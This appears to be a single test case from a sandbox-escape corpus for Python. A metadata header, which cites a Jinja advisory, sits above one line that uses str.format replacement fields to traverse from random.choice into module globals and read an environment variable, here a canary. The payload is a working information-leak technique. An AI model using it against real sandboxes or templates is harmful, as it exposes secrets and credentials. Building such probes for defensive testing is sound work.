# id: str-format-attribute-traversal
# family: format-strings
# kind: information-leak
# invariant: C, D, E
# origin: Jinja advisory CVE-2016-10745
# technique: replacement fields walk attributes and items inside C, where no filter of source or syntax tree sees the names
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

import random

print("{0.__func__.__globals__[_os].environ[PADCELL_CANARY]}".format(random.choice))
